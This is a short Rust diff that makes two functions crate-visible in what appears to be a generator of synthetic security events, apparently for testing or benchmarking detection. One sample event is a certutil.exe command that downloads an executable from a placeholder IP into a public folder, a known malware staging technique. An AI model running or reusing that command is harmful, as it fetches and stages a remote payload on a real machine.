@@ -52,7 +52,7 @@ pub fn system_prompt() -> String {
     s.repeat(2)
 }
 
-fn event(i: usize) -> String {
+pub(crate) fn event(i: usize) -> String {
     const EVENTS: &[&str] = &[
         "certutil.exe -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe (parent cmd.exe)",
         "svchost.exe -k netsvcs -p -s Schedule (parent services.exe)",
@@ -121,7 +121,7 @@ struct Run {
     report: Report,
 }
 
-fn percentile(v: &[f64], p: f64) -> f64 {
+pub(crate) fn percentile(v: &[f64], p: f64) -> f64 {
     let mut s = v.to_vec();
     s.sort_by(f64::total_cmp);
     if s.is_empty() {
